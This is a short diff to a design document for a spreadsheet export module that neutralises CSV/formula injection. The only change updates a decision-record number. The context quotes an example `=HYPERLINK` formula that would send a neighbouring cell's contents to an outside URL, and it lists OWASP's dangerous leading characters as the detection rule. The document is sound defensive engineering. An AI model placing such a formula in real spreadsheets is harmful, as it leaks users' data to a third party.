@@ -4,7 +4,7 @@ Every cell a user downloads goes through this module, because the text in our ex
 units, respondents and staff: a progress note `=HYPERLINK("http://…?x="&A2,"Xem")` must reach the
 reader as that text, not as a live link that sends the neighbouring cells away.
 
-How text is guarded (docs/decisions.md, 31): a text value beginning with `=`, `+`, `-`, `@`, a tab or
+How text is guarded (docs/decisions.md, 32): a text value beginning with `=`, `+`, `-`, `@`, a tab or
 a carriage return (OWASP's list for CSV injection) is marked the way a spreadsheet marks text typed
 after an apostrophe.
 - XLSX: every text cell is a string cell (data type "s", so openpyxl never writes a formula), and a
